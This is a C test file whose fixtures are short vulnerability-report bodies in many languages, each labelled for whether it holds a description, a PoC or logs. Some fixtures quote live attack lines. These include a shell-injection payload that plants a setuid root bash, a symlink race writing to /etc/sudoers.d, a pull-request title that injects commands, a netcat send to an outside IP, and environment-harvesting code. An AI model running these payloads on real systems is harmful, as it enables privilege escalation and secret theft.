/* test_extract_checklist.c — the checklist (description, PoC, logs) of small
 * reports in many styles, the type of each line, a PoC said to be attached.
 * Split from test_extract.c by area; what the programs share is in
 * extract_helpers.h. */
#include "extract_helpers.h"

static const struct {
	const char *body;
	int description, poc, logs;   /* -1: do not care */
} checks[] = {
	/* (#3, 5162) steps run together on one line, a phone's "tap" among them */
	{ "Steps: log in as a Viewer member on a phone browser (or a narrow window), open the org's Sandboxes "
	  "page, tap Delete on any sandbox.\n", -1, 1, -1 },
	/* (4819) the reproduction kept until someone allows it: the host's
	 * own look at the switch shows no step */
	{ "The testers' exact steps are in their report, which I may not forward until the customer has "
	  "approved it. I will send the reproduction as soon as I'm allowed to. What I looked at afterwards:\n\n"
	  "PS C:\\Windows\\system32> Get-VMSwitch | Format-Table Name, SwitchType\n\nName    SwitchType\n"
	  "----    ----------\nmsb-nat   Internal\n", -1, 0, -1 },
	/* (4823) Windows describing itself is no log of the issue */
	{ PROSE "  PS C:\\> Get-ComputerInfo -Property WindowsProductName, OsName, OsDisplayVersion\n\n"
	  "  WindowsProductName : Windows 10 Home\n  OsName             : Microsoft Windows 11 Famille\n"
	  "  OsDisplayVersion   : 26H1\n\n  PS C:\\> cmd /c ver\n\n  Microsoft Windows [version 10.0.28000.1450]\n",
	  1, -1, 0 },
	/* (4684) in Spanish, the script named after the verb */
	{ "Las primeras l\u00edneas del archivo:\n\nimport os, json, threading\n_K = (\"TOKEN\", \"KEY\")\n"
	  "def _s():\n    d = {k: v for k, v in os.environ.items()}\n\nTodav\u00eda no les puedo pasar los comandos "
	  "exactos. Ma\u00f1ana les mando un script con crane que hace la misma comparaci\u00f3n.\n", -1, 0, -1 },
	/* (4537) the script kept for next week: the commands shown only look
	 * at the result */
	{ "Evidence, before and after:\n\n  $ msb exec vitima -- ip -6 route\n  fe80::/64 dev eth0 proto kernel\n\n"
	  "PoC\n\nThe script that sends the RAs is in an internal repository with a customer's things. I'll clean "
	  "it up and send it next week, with the full capture.\n", -1, 0, -1 },
	{ "Evid\u00eancia:\n\n  $ msb exec vitima -- ip -6 route\n  fe80::/64 dev eth0 proto kernel\n\n"
	  "O script que manda os RAs est\u00e1 num reposit\u00f3rio interno. Vou limpar e mando na semana que vem.\n",
	  -1, 0, -1 },
	/* (4486) the source cloned and entered before an audit: no run;
	 * (4404) a web server's access log line is output */
	{ PROSE "  $ git clone https://github.com/superradcompany/microsandbox && cd microsandbox\n", 1, 0, -1 },
	{ PROSE "From our nginx access log:\n\n    10.0.7.4 - - [25/May/2028:14:31:07 +0000] \"GET "
	  "/v1/sandboxes/sb_1/exec/ws?env=KEY%3Dsk-dummy HTTP/1.1\" 101 0 \"-\" \"microsandbox-python/0.15.2\"\n",
	  1, -1, 1 },
	/* (4364, 4393, 4336, 4316, 4359) the repository key installed, a key's
	 * packets listed, a GPU and a guest kernel's options read, the source
	 * searched: no reproduction */
	{ PROSE "How we installed it:\n\n  curl -fsSL https://packages.example/gpg.key | sudo gpg --dearmor -o "
	  "/usr/share/keyrings/msb.gpg\n", 1, 0, -1 },
	{ PROSE "  $ gpg --export 6F3C2A91D04B7E85 | gpg --list-packets | grep -E '^:|digest algo'\n", 1, 0, -1 },
	{ PROSE "  $ nvidia-smi --query-gpu=name,driver_version --format=csv,noheader\n", 1, 0, -1 },
	{ PROSE "  $ msb run --rm alpine -- sh -c 'uname -r; cat /proc/sys/kernel/io_uring_disabled'\n", 1, 0, -1 },
	{ PROSE "  $ grep -rn -i legacy msb-snapshot/src/ | wc -l\n", 1, 0, -1 },
	/* (4358) the request's path redacted, the PoC kept until a bounty */
	{ PROSE "Request:\nGET /v1/orgs/org_1/[REDACTED] HTTP/2\n\nThe full Proof of Concept (exact endpoint + "
	  "video) will be shared after you confirm the bounty amount.\n", 1, 0, -1 },
	/* (4333) French "no proof of concept": quoted source is none */
	{ PROSE "Ce que j'ai lu :\n\n    fn rename2(&self, req: &Rename2Request) -> Result<()> {\n"
	  "        let src = self.resolve(req.old_parent)?;\n        sys::renameat2(&src, &dst)\n    }\n\n"
	  "Je n'ai pas de preuve de concept.\n", 1, 0, -1 },
	/* (4364) Catalan: could not make it happen on purpose, so the
	 * commands told are no reproduction */
	{ PROSE "No ho hem pogut reproduir a prop\u00f2sit.\n\n  $ msb exec job-b -- cat /etc/hostname\n"
	  "  job-a\n", 1, 0, -1 },
	/* (4282) a browser's developer tools copied by hand: the status and
	 * the answer are the server's output */
	{ PROSE "Request payload: {\"org\":\"org_1\",\"role\":\"owner\"}\nStatus: 200 OK\n"
	  "Response: {\"member\":{\"id\":\"usr_1\",\"role\":\"owner\"}}\n", 1, -1, 1 },
	/* (4294) a command that only downloaded the attached evidence */
	{ PROSE "I attach the full SARIF, downloaded with the code scanning API:\n\n"
	  "   gh api -H \"Accept: application/sarif+json\" \\\n     repos/someone/fork/code-scanning/analyses/41\n",
	  1, 0, -1 },
	/* (4224) a list item's wrapped line opening with the product's name is
	 * prose, no command */
	{ "Je dois \u00eatre honn\u00eate sur les limites :\n- je n'ai pas de preuve de concept. Il faudrait un pilote "
	  "modifi\u00e9, et je n'ai pas r\u00e9ussi \u00e0 construire le noyau invit\u00e9 de\n"
	  "  microsandbox pour le tester ;\n", -1, 0, -1 },
	/* (4175, 4220, 4244, 4251) commands that look and reproduce nothing: a
	 * version piped to head, where a link leads, a checksum, a service audit
	 * filtered with sed */
	{ PROSE "\n  $ systemctl --version | head -1\n  systemd 257 (257.9-1)\n", -1, 0, -1 },
	{ PROSE "\n  $ readlink -f /usr/lib/msb/libkrun.so.1\n  /usr/lib/msb/libkrun.so.1.16.1\n", -1, 0, -1 },
	{ PROSE "\n  $ sha256sum /var/lib/msb/cache/pip/wheels/labutils-1.4.0-py3-none-any.whl\n"
	  "  9f2c1e  /var/lib/msb/cache/pip/wheels/labutils-1.4.0-py3-none-any.whl\n", -1, 0, -1 },
	{ PROSE "\n  $ systemd-analyze security msbd.service --no-pager | sed -n '1p;4,11p;$p'\n"
	  "  NAME  DESCRIPTION  EXPOSURE\n", -1, 0, -1 },
	/* (4215) a line of mount's table and a logger's line under the run */
	{ "The read-only volume is writable when created from the SDK.\n\nResultado:\n\n"
	  "virtiofs on /dados type virtiofs (rw,relatime)\nescrita OK\n\n"
	  "DEBUG microsandbox.client: POST /v1/sandboxes body={\"ro\": true}\n", -1, -1, 1 },
	/* (3738) commands that set a machine up (sysctl -w, ip tunnel add)
	 * are steps, not the output of the step above them */
	{ "A guest gets a GRE tunnel out although the sandbox runs with --net-default deny.\n\n"
	  "On my VPS:\n\n  ip tunnel add gre1 mode gre remote 198.51.100.7 local 203.0.113.50 ttl 64\n"
	  "  ip link set gre1 up\n  sysctl -w net.ipv4.ip_forward=1\n"
	  "  iptables -t nat -A POSTROUTING -s 172.31.99.0/30 -j MASQUERADE\n", -1, TRUE, FALSE },
	/* (3615) the writer's own try named with where it was done, over
	 * the steps */
	{ "The tap's autobump workflow runs on any issue comment and pushes the formula with the tap's token, "
	  "so anyone can point brew at their own tarball.\n\n"
	  "I checked it ONLY on a private copy of the tap (at your tag v0.12.8), not on your real repo:\n"
	  "1. copy the repo, enable actions, add a dummy TAP_PUSH_TOKEN\n"
	  "2. from my second account (no access to the repo) open an issue and comment\n"
	  "   /bump 0.12.9 https://203.0.113.77/msb-0.12.9.tar.gz 4f1c9e0b\n"
	  "3. the workflow runs and pushes to main\n", TRUE, TRUE, -1 },
	/* (3573) a helper run by its full path with a subcommand, and the
	 * program it dropped in /tmp, pasted from a chat: the steps */
	{ "El helper setuid arma el comando de ip con el nombre de la interfaz tap a trav\u00e9s de sh -c, sin "
	  "validar nada. Cualquier usuario local puede meter un ; en el nombre y ejecutar lo que quiera como root.\n\n"
	  "Mart\u00edn Sosa\nprob\u00e1 con un usuario com\u00fan\nMart\u00edn Sosa\n"
	  "/usr/lib/microsandbox/msb-netd-helper tap-create --name 'x;cp /bin/bash /tmp/rb;chmod 4755 /tmp/rb'\n"
	  "/tmp/rb -p\nMart\u00edn Sosa\ny listo, te da euid=0\n", TRUE, TRUE, -1 },
	/* (3549) a loop in a background subshell is a step, and a ticket's
	 * work-note headers (the time and who wrote the note) are no log */
	{ "msbd checks the volume path and then opens it again as root, so a symlink swapped in between "
	  "exports /etc read-write to the sandbox and any msb group member gets root on the host.\n\n"
	  "Reproduction:\n\n"
	  "  mkdir -p ~/race/real && cd ~/race\n"
	  "  ( while :; do ln -sfn real p; ln -sfn /etc p; done ) &\n"
	  "  msb run --rm -v \"$HOME/race/p:/mnt:rw\" alpine -- sh -c 'echo x > /mnt/sudoers.d/zz'\n\n"
	  "I did not keep the terminal output.\n\nWork notes (newest first):\n\n"
	  "2026-12-29 10:52:18 GMT - Callum Reid\nCould not reproduce on our lab box.\n\n"
	  "2026-12-29 09:31:40 GMT - Callum Reid\nCustomer confirmed the runners are restricted.\n",
	  TRUE, TRUE, FALSE },
	/* (3475) a relayer who says they do not know what the pasted
	 * transcript shows: their sentences pass it on, no description */
	{ "I run a small Mastodon instance. Late last night one of our users sent me the message below and asked me "
	  "to get it to you. I'm pasting it exactly as it came, terminal output included.\n\nTo be honest I'm not "
	  "sure what exactly it shows. I don't run microsandbox myself, so I haven't tried anything. If you have "
	  "questions I can pass them on.\n\n[k@bench ~]$ /usr/libexec/microsandbox/msb-vmm --config /tmp/k/vm.json\n"
	  "written\n[k@bench ~]$ sudo -n id\nuid=0(root) gid=0(root) groups=0(root)\n", 0, 1, 1 },
	/* (3517) the same in a language no list knows: the sentences
	 * about the system tell why the relayer forwards it */
	{ "Soy de soporte t\u00e9cnico de Tallerbox, una plataforma que usa microsandbox para correr el c\u00f3digo de "
	  "los alumnos. Un cliente nos mand\u00f3 el mensaje de abajo anoche, s\u00f3lo la salida de la terminal. "
	  "Nuestros desarrolladores est\u00e1n de licencia y yo no termino de entender qu\u00e9 muestra, pero como "
	  "aparece el filtro de red de microsandbox preferimos reenvi\u00e1rselo tal cual.\n\n"
	  "$ msb run --name q1 --net-default deny alpine -- sh\n/ # printf 'x' | nc -u -w2 203.0.113.40 9999; "
	  "echo rc=$?\nrc=0\n", 0, 1, -1 },
	/* (3528) Hebrew prose about keys and secrets beside a transcript */
	{ "\u05d0\u05e0\u05d9 \u05e1\u05d8\u05d5\u05d3\u05e0\u05d8\u05d9\u05ea \u05d5\u05de\u05e6\u05d0\u05ea\u05d9 "
	  "\u05e9\u05de\u05d9\u05e7\u05e8\u05d5\u05e1\u05e0\u05d3\u05d1\u05d5\u05e7\u05e1 \u05e9\u05d5\u05de\u05e8 "
	  "\u05d0\u05ea \u05d4\u05e1\u05d5\u05d3\u05d5\u05ea \u05e9\u05dc \u05db\u05dc "
	  "\u05d4\u05e1\u05e0\u05d3\u05d1\u05d5\u05e7\u05e1\u05d9\u05dd \u05d1\u05e7\u05d5\u05d1\u05e5 JSON "
	  "\u05dc\u05d0 \u05de\u05d5\u05e6\u05e4\u05df \u05d1\u05de\u05d7\u05e9\u05d1 \u05e9\u05dc "
	  "\u05d4\u05de\u05e2\u05d1\u05d3\u05d4.\n\n$ cat secrets.json\n{\"scraper\":{\"PROXY_PASSWORD\":\"dummy\"}}\n\n"
	  "\u05dc\u05d3\u05e2\u05ea\u05d9 \u05d6\u05d5 \u05d3\u05dc\u05d9\u05e4\u05ea \u05e1\u05d5\u05d3\u05d5\u05ea "
	  "\u05d7\u05de\u05d5\u05e8\u05d4: \u05d4\u05de\u05e4\u05ea\u05d7\u05d5\u05ea \u05e9\u05dc \u05db\u05dc "
	  "\u05d4\u05e7\u05d1\u05d5\u05e6\u05d5\u05ea \u05e0\u05d7\u05e9\u05e4\u05d9\u05dd \u05dc\u05db\u05dc "
	  "\u05de\u05d9 \u05e9\u05de\u05d2\u05d9\u05e2 \u05dc\u05de\u05d7\u05e9\u05d1.\n", 1, 1, -1 },
	/* (3511) `ps -o user,pid,command`'s header, PID right-aligned */
	{ PROSE "4. Result (student02's terminal)\nUSER        PID COMMAND\nstudent01 48213 "
	  "/Users/student01/lab/node_modules/.bin/msb run --name lab-7f3a --secret KEY=dummy python:3.12-slim\n",
	  -1, -1, 1 },
	/* (3493) `npm view` of another package or of a field of the
	 * registry's record checks the registry: a supply-chain claim's
	 * reproduction; of microsandbox's version it only shows the
	 * environment */
	{ PROSE "Steps to check it yourselves:\n\n    npm view microsandbox optionalDependencies\n"
	  "    npm view msb-linux-arm64-musl\n    npm view msb-linux-arm64-gnu maintainers\n", -1, 1, -1 },
	{ PROSE "Steps to check it yourselves:\n\n    npm view microsandbox version\n", -1, 0, -1 },
	/* a command hard-wrapped by a mail client inside its quoted argument
	 * or after its redirection goes on on the next line, which is none of
	 * its output; nor is the rest of a command that ends a sentence with
	 * its quote open */
	{ PROSE "msb run --net-deny-private alpine -- sh -c 'apk add curl && curl -s\n"
	  "http://0.0.0.0:8500/v1/agent/self'\n\nIt answers with the agent's config.\n", -1, 1, 0 },
	{ PROSE "```\nmkdir /tmp/evil && cd /tmp/evil\nprintf '[client]\\nserver_url = \"http://127.0.0.1:9999\"\\n' >\n"
	  ".microsandbox.toml\nnc -l 9999 &\n```\n", -1, 1, 0 },
	{ PROSE "Repro ist ein Einzeiler: curl -s -H \"Authorization: Bearer\n"
	  "msb_live_DUMMY0000lena0000\"\n\"https://api.microsandbox.example/v1/sandboxes?org=org_kt77\" und zur\u00fcck\n"
	  "kommen die Sandboxes der anderen Org.\n", -1, 1, 0 },
	/* (3434) an injection payload given as the pull request's title is
	 * the reproduction; (3409) a pen test's findings relayed with their
	 * evidence report something, though the writer asks for a statement */
	{ "Il titolo della PR viene sostituito nello script prima che la shell lo esegua.\n\n"
	  "Marco Rinaldi, 10:12\nho aperto la PR #3 dal fork con il titolo: fix typo\"; id; echo \"scopes=$(curl -sI "
	  "https://api.github.com/user | grep -i x-oauth-scopes)\"; echo \"\n", -1, 1, -1 },
	{ "I work in Third-Party Risk Management at a bank. As part of our annual vendor review, our "
	  "penetration-testing provider assessed the staging host on which our developers evaluate microsandbox. "
	  "The findings that concern microsandbox itself are copied below from their report (section 4.3), and the "
	  "full list with evidence is in the attached CSV.\n\n"
	  "F-4.3.1 (Low) msbd.service runs as root without systemd sandboxing. The unit sets none of "
	  "ProtectSystem=, ProtectHome=, PrivateTmp=, NoNewPrivileges= or CapabilityBoundingSet=. Recommendation: "
	  "ship a hardened unit.\n\n"
	  "F-4.3.2 (Low) The per-sandbox VMM processes run without a seccomp filter. A VMM bug would therefore "
	  "have the full syscall surface available. Recommendation: apply a seccomp allow-list to the VMM.\n\n"
	  "Thank you in advance. If another contact is more appropriate for vendor-risk questions, please let me "
	  "know.\n", 1, -1, -1 },
	/* (3428) an arrow before what a command printed, an emoji after it:
	 * the emoji is no word, and the line no note of the writer's */
	{ "Pasting the Slack thread:\n\nPriya Raman  9:15 AM\n$ systemd-analyze security msbd.service | tail -1\n"
	  "\u2192 Overall exposure level for msbd.service: 9.6 UNSAFE \U0001F628\nPriya Raman  9:17 AM\n"
	  "2) msbd.sock is 0660 root:msb\n", -1, -1, 1 },
	/* (round 269) a passage quoted in prose, indented and between
	 * quotation marks, is the quoted person's description, not output;
	 * an indented block without the marks stays one */
	{ "What the source told me, in their words:\n\n"
	  "  \u201cCustomer sandboxes on the managed cloud share physical cores. A malicious customer\n"
	  "  sandbox on the sibling thread could read your keys out of memory. I haven't tried it, and\n"
	  "  I have no exploit.\u201d\n\nMy questions follow.\n", 1, 0, 0 },
	{ "What the scanner printed:\n\n"
	  "  Customer sandboxes on the managed cloud share physical cores. A malicious customer\n"
	  "  sandbox on the sibling thread could read your keys out of memory. I haven't tried it, and\n"
	  "  I have no exploit.\n\nMy questions follow.\n", -1, -1, 1 },
	/* (round 269) a traceback's source lines under its frames are what
	 * it printed, not code the writer gives */
	{ PROSE "Sentry's latest event:\n\n"
	  "  TenantMismatch: exec result for sandbox sbx_31kq returned to request for sbx_7bnd\n"
	  "    File \"/srv/api/app/extract.py\", line 88, in run_extraction\n"
	  "      result = await sb.exec([\"python\", \"/job/extract.py\"], timeout=120)\n"
	  "    File \"/srv/api/app/extract.py\", line 92, in run_extraction\n"
	  "      raise TenantMismatch(result.sandbox_id, sb.id)\n", 1, 0, 1 },
	/* (1837) one structured log record a line, as a JSON logger writes it
	 * or a log service exports it (level, a clock's time, a message, in
	 * any order), is logs; a logger's config or a request body written by
	 * hand is not, though it has "level" or "message" in it */
	{ PROSE "From our Loki export:\n\n{\"level\":\"warn\",\"ts\":1801234567.123,\"caller\":\"client/retry.go:88\","
	  "\"msg\":\"retrying request\",\"attempt\":3}\n", 1, -1, 1 },
	{ PROSE "Bunyan wrote:\n\n{\"name\":\"api\",\"hostname\":\"w1\",\"pid\":411,\"level\":30,\"msg\":\"sandbox created\","
	  "\"time\":\"2029-03-02T10:11:12.000Z\",\"v\":0}\n", 1, -1, 1 },
	{ PROSE "The record in Datadog:\n\n{\"message\":\"upload failed\",\"date\":\"2029-04-07T08:00:01Z\",\"status\":\"error\",\"service\":\"agent\"}\n", 1, -1, 1 },
	{ PROSE "Our logger is set up like this:\n\n{\"level\": \"debug\", \"format\": \"json\", \"time\": true, \"msg\": \"default\"}\n", 1, -1, 0 },
	{ PROSE "We post this body:\n\n{\"image\": \"alpine\", \"status\": \"error\", \"message\": \"hello\", \"timeout\": 30}\n", 1, -1, 0 },
	/* (round 268) a phone's em dash for the "--" before the guest's command */
	{ PROSE "Then:\n\nmsb exec jobrunner \xe2\x80\x94 date -s \"2099-01-01 00:00:00\"\n", 1, 1, -1 },
	/* (round 268) a program run by its full path with an option, unprompted
	 * under its heading, is a PoC; a sentence about the file is not */
	{ PROSE "Repro as a normal user (uid 1000):\n/usr/libexec/msb/msb-net-helper --config /etc/shadow\n", 1, 1, -1 },
	{ PROSE "/usr/libexec/msb/msb-net-helper is -rwsr-xr-x root root and takes --config from anyone.\n", 1, 0, -1 },
	/* (#3) the product's source quoted by a writer who says no
	 * reproduction of some kind was written is no PoC; a numbered
	 * section heading that is the output word alone heads output */
	{ PROSE "The check in request.rs:\n\n    let end = seg.sector * SECTOR + n * SECTOR;\n"
	  "    if end > self.size {\n        return Err(Error::Range);\n    }\n\n"
	  "We have not written a guest-side reproduction yet.\n", 1, 0, -1 },
	{ PROSE "2. Checker output\n\n    Check 3: bounds.assertion.1\n     - Status: FAILURE\n"
	  "    SUMMARY:\n     ** 1 of 52 failed\n    VERIFICATION:- FAILED\n", 1, -1, 1 },
	{ PROSE "2. Next steps\n\nWe will send a patch next week once the review is done.\n", 1, -1, 0 },
	/* (2485) a sentence saying how the output was made, between the
	 * output heading and the block, the block opening with a tool's
	 * progress line; not under a heading of another kind, nor a block
	 * of code under the same sentence */
	{ PROSE "3. Tool output\n\nThe checker 1.4 on the harness check_bounds, with the base and the size\n"
	  "left free under the rules the allocator keeps:\n\n"
	  "    Checking harness blk::check_bounds...\n    Check 4: blk::range.assertion.1\n"
	  "     - Status: FAILURE\n    VERIFICATION:- FAILED\n", 1, -1, 1 },
	{ PROSE "3. The fix we suggest\n\nThe check should use checked arithmetic, as the read path\n"
	  "already does, like this:\n\n"
	  "    Checking the range first, then the offset...\n    let end = a.checked_mul(b)?;\n", 1, -1, 0 },
	{ PROSE "3. Tool output\n\nTo get it yourself, put this in the harness file:\n\n"
	  "    #[kani::proof]\n    fn check_bounds() {\n        let s: u64 = kani::any();\n    }\n", 1, -1, 0 },
	/* (#3) a script's first comment under a heading that says what the
	 * script's server answers ("# stub_srv.py" over "import json,
	 * socket, sys") heads code, not output; a machine-made line with no
	 * code under it is still output */
	{ PROSE "A stub server that always answers 500:\n\n# stub_srv.py\nimport json, socket, sys\n"
	  "from http.server import HTTPServer\n\nprint(\"ready\")\n", -1, -1, 0 },
	{ PROSE "The stub answers:\n\n# stub_srv.py\nready on 5599\n", -1, -1, 1 },
	/* (#3) a heading that names the query of the environment ("The SDK
	 * version, from pip show:") announces the version, not a log; the
	 * same lines printed by the reproduction are output */
	{ PROSE "The SDK version, from pip show:\n\n    Name: microsandbox\n    Version: 0.9.1\n", -1, -1, 0 },
	{ PROSE "The node version per npm ls:\n\n    app@1.0.0 /srv/app\n    `-- microsandbox@0.9.1\n", -1, -1, 0 },
	{ PROSE "    $ python3 probe.py\n\nThe probe shows:\n\n    Name: microsandbox\n    Version: 0.9.1\n", -1, -1, 1 },
	/* (#3) bandit's finding as it prints it is the tool's output; the
	 * rule named in a sentence is not */
	{ PROSE "Results:\n\n>> Issue: [B602:subprocess_popen_with_shell_equals_true] subprocess call with shell=True\n"
	  "   Severity: High   Confidence: High\n", -1, -1, 1 },
	{ PROSE "Bandit flags it as issue B602, which I think is right.\n", -1, -1, 0 },
	/* (#3) Homebrew's own lines ("==> Fetching x", "==> Downloading
	 * URL") are printed; the arrow in a sentence is not */
	{ PROSE "Installing it from the tap:\n\n==> Fetching acme/tap/tool\n==> Downloading https://dl.example/tool-1.2.tar.gz\n", -1, -1, 1 },
	{ PROSE "I expected brew to say ==> Verifying and ==> Pouring before it installs anything.\n", -1, -1, 0 },
	/* (#3) the writer says the script is not in the mail, or sends it
	 * through a channel named before the word that makes it private:
	 * what is shown around the gap is no reproduction; logs kept out
	 * of the mail leave the commands one */
	{ PROSE "We have not included our scripts in this email.\n\n    $ ls -l /var/lib/tool/index.json\n    $ grep owner /var/lib/tool/index.json\n", -1, 0, -1 },
	{ PROSE "We will send them through GitHub private vulnerability reporting.\n\n    $ ls -l /var/lib/tool/index.json\n", -1, 0, -1 },
	/* (4152, 4090) ... or says so while writing */
	{ PROSE "I'm not including the exact steps from inside the guest yet.\n\n    $ redis-cli CLIENT LIST | grep 51844\n", -1, 0, -1 },
	{ PROSE "We are deliberately not putting the exact argument in this mail.\n\n    # mount /dev/vdb2 /mnt && cat /mnt/etc/hostname\n", -1, 0, -1 },
	{ PROSE "I have not included the logs in this email.\n\n    $ msb run --name a alpine -- cat /etc/shadow\n", -1, 1, -1 },
	{ PROSE "We will send the advisory through GitHub once it is fixed.\n\n    $ msb run --name a alpine -- cat /etc/shadow\n", -1, 1, -1 },
	/* (#3) a helper run with PATH set for it and its arguments continued
	 * on the next line is a command, not what the line above printed:
	 * told in prose, its result is no log; printed under it, it is */
	{ PROSE "Steps:\n\n    mkdir /var/tmp/q\n    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n"
	  "        --up wg0\n    cat /var/tmp/q/log\n\nThe log then says uid 0, but I did not keep a copy.\n", 1, 1, 0 },
	{ PROSE "Steps:\n\n    mkdir /var/tmp/q\n    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n"
	  "        --up wg0\n    cat /var/tmp/q/log\n    uid=0(root) gid=0(wheel)\n", 1, 1, 1 },
	/* PoC in many styles */
	/* (#3) a binary-hardening audit (checksec, hardening-check) and its
	 * flag table are evidence of how a binary was built, logs, not a
	 * reproduction; a real command after it still is one */
	/* 1463: a template's blanks show nothing: a prompt before a
	 * placeholder runs nothing, "N/A" or "<output>" under a logs heading
	 * printed nothing; a command with a placeholder argument still runs,
	 * and JSON or markup under a heading is output, no blank */
	/* (1524) a heading addressed to several readers ("To see it for
	 * yourselves:") over steps on a web page; the phrase in a sentence
	 * with no steps under it is none */
	{ PROSE "To see it for yourselves:\n1. open the Actions tab and pick the nightly run\n2. expand the step \"Publish\"\n3. scroll to the line after \"Uploading\"\n", 1, 1, -1 },
	{ PROSE "You can see it yourselves in the public log of that run.\n", 1, 0, -1 },
	{ PROSE "How to reproduce:\n\n```\n$ <the exact command you ran>\n<what it printed>\n```\n", 1, 0, 0 },
	{ PROSE "Repro:\n\n    user@box:~$ [command]\n    user@box:~$ ...\n\nLogs / traces:\n\nTBD\n", 1, 0, 0 },
	{ PROSE "Console output:\nN/A\n", 1, 0, 0 },
	{ PROSE "    $ msb run --name t <image> -- cat /etc/shadow\n", 1, 1, -1 },
	{ PROSE "    $ msb exec t -- wget -qO- http://10.0.2.2:8080/\n\nResponse:\n\n<!DOCTYPE html>\n", 1, 1, 1 },
	{ PROSE "    $ msb exec t -- wget -qO- http://10.0.2.2:8080/state\n\nResponse:\n\n{\"tenant\":\"b\"}\n", 1, 1, 1 },
	/* (1620) a forge's CLI fetching a public run log or an API object
	 * and decoding it, on a line of its own in a block, continued over
	 * lines with '\': the evidence anyone can fetch again is the
	 * reproduction; the client named in a sentence, or asked for its
	 * version or login state, is none */
	{ PROSE "Anyone can pull it out of the nightly job:\n\n"
	  "    gh run view 5120044 --repo example/tool --log \\\n"
	  "      | grep 'Upload cache' | cut -d' ' -f4 | base64 -d\n", 1, 1, -1 },
	{ PROSE "Fetch the log like this:\n\n"
	  "    glab ci trace 88123 --repo group/proj | grep -i token\n", 1, 1, -1 },
	{ PROSE "The workflow log is public: gh run view shows it to anyone who asks.\n", 1, 0, -1 },
	{ PROSE "My versions:\n\n    gh version 2.61.0 (2028-10-02)\n    gh auth status\n", 1, 0, -1 },
	/* 1466: reStructuredText underlines its section titles with '~' as
	 * well: "Summary" / "~~~~~~~" is a heading, not a fence that would
	 * hide the prose below it; a fence under a longer lead-in or under
	 * one ending in a colon still opens a block */
	{ "Hello,\n\nadvisory below.\n\nSummary\n~~~~~~~\n\nThe snapshot restore in the Python SDK does not "
	  "check the archive member paths,\nso a crafted snapshot writes files outside the target directory. Any "
	  "user who\nrestores a shared snapshot lets its author overwrite files in their home\ndirectory, such as "
	  "the shell profile.\n\nReproduction\n~~~~~~~~~~~~\n\n.. code-block:: console\n\n"
	  "   $ msb snapshot restore shared.snap --into ./work\n   $ cat ~/.profile\n   echo pwned\n", 1, 1, 1 },
	{ PROSE "The script I used in the guest is this one\n~~~\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n~~~\n", 1, 1, -1 },
	{ PROSE "PoC:\n~~~~\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n~~~~\n", 1, 1, -1 },
	/* 1468: a reproduction section left blank ("TBD", "to follow", "à
	 * compléter" under its heading or after its colon): the code shown is
	 * the source discussed, quoted; a command still reproduces, and a
	 * steps heading over code or over a real lead-in keeps the code */
	{ PROSE "## How to reproduce\n\nTo follow once the race is reliable.\n\nThe handler as it is today:\n\n"
	  "```c\nstatic int handle_open(struct req *r) {\n    int fd = openat(root, r->name, r->flags);\n"
	  "    return fd;\n}\n```\n", 1, 0, 0 },
	{ PROSE "PoC : à compléter\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 0, 0 },
	/* (#3, 2138) no time or chance to build the exploit, or a finding
	 * of source review only: the code shown is the source discussed;
	 * a command still reproduces */
	{ PROSE "Found by static code review only. The parser today:\n\n```rust\nlet n = hdr.len as usize;\n"
	  "let body = &buf[4..4 + n];\nout.extend_from_slice(body);\n```\n", 1, 0, 0 },
	{ PROSE "I have NOT been able to try this, so this is from reading the code only.\n\n    let desc = "
	  "chain.next().ok_or(RxError::EmptyChain)?;\n    let host = self.mem.host_address_unchecked(desc.addr);\n",
	  1, 0, 0 },
	/* (#3, 5020) Romanian: "I have no PoC", found "only by reading the
	 * code" */
	{ PROSE "Nu am un PoC; am găsit-o doar citind codul:\n\n    for entry in archive.entries()? {\n"
	  "        let mut entry = entry?;\n        entry.unpack(dest.join(&rel))?;\n    }\n", 1, 0, 0 },
	{ PROSE "We haven't had the chance yet to write a working PoC. The handler:\n\n```c\nint n = req->len;\n"
	  "memcpy(dst, req->data, n);\nreturn n;\n```\n", 1, 0, 0 },
	/* (#3, 3670) the same said in Japanese after a particle ("実際には試
	 * しておらず、PoC もありません"): the code quoted is the source */
	{ PROSE "\u5b9f\u969b\u306b\u306f\u8a66\u3057\u3066\u304a\u3089\u305a\u3001PoC \u3082\u3042\u308a\u307e"
	  "\u305b\u3093\u3002\n\n    real = os.path.realpath(os.path.dirname(dst))\n"
	  "    with open(dst, \"wb\") as f:\n        f.write(data)\n", 1, 0, 0 },
	/* (#3, 3818) reading the repository's history is no reproduction: a
	 * bisect that greps the source, npm ls */
	{ "Up front: I do NOT have a working exploit.\n\nWhere it came from:\n\n"
	  "  $ git bisect start v0.12.7 v0.12.6 -- sdk/node\n"
	  "  Bisecting: 6 revisions left to test after this (roughly 3 steps)\n"
	  "  $ git bisect run sh -c '! grep -q \"preservePaths: true\" sdk/node/src/fs/download.ts'\n"
	  "  e7b29d04a1c6f58e3b0d2a9c7f1e4b86d5a30c92 is the first bad commit\n\n"
	  "  $ npm ls microsandbox\n  `-- microsandbox@0.12.8\n", -1, 0, -1 },
	/* (#3, 3881) the reproduction in the GHSA draft, what it holds told
	 * between */
	{ "I filed this through GitHub's private vulnerability reporting:\n\n"
	  "https://github.com/superradcompany/microsandbox/security/advisories/GHSA-5vmq-r8h4-wc2j\n\n"
	  "The full reproduction (a crafted image pushed to a local registry:2 and four msb commands), the daemon "
	  "output and our notes are in the draft.\n", -1, 1, 0 },
	/* (#3, 3873) and in Chinese: "沒有 PoC" (there is no PoC) */
	{ PROSE "- \u6c92\u6709 PoC\uff0c\u4e5f\u6c92\u6709\u4efb\u4f55\u57f7\u884c\u7d00\u9304\u3002\n\n"
	  "    let free = self.peer_buf_alloc - (self.tx_cnt - self.peer_fwd_cnt);\n"
	  "    let n = free as usize;\n", 1, 0, 0 },
	{ PROSE "I had no time to report it earlier. The handler:\n\n```c\nint n = req->len;\n"
	  "memcpy(dst, req->data, n);\nreturn n;\n```\n", 1, 1, 0 },
	{ PROSE "Code review only at first, then I confirmed it:\n\n    $ msb run --name t alpine -- sh -c 'head -c 70000 /dev/zero > /dev/vport0p1'\n", 1, 1, -1 },
	{ PROSE "Steps to reproduce:\n\nTBD on macOS; on Linux it is enough to run\n\n"
	  "    $ msb run --name r alpine -- ln -s / /shared/link\n", 1, 1, -1 },
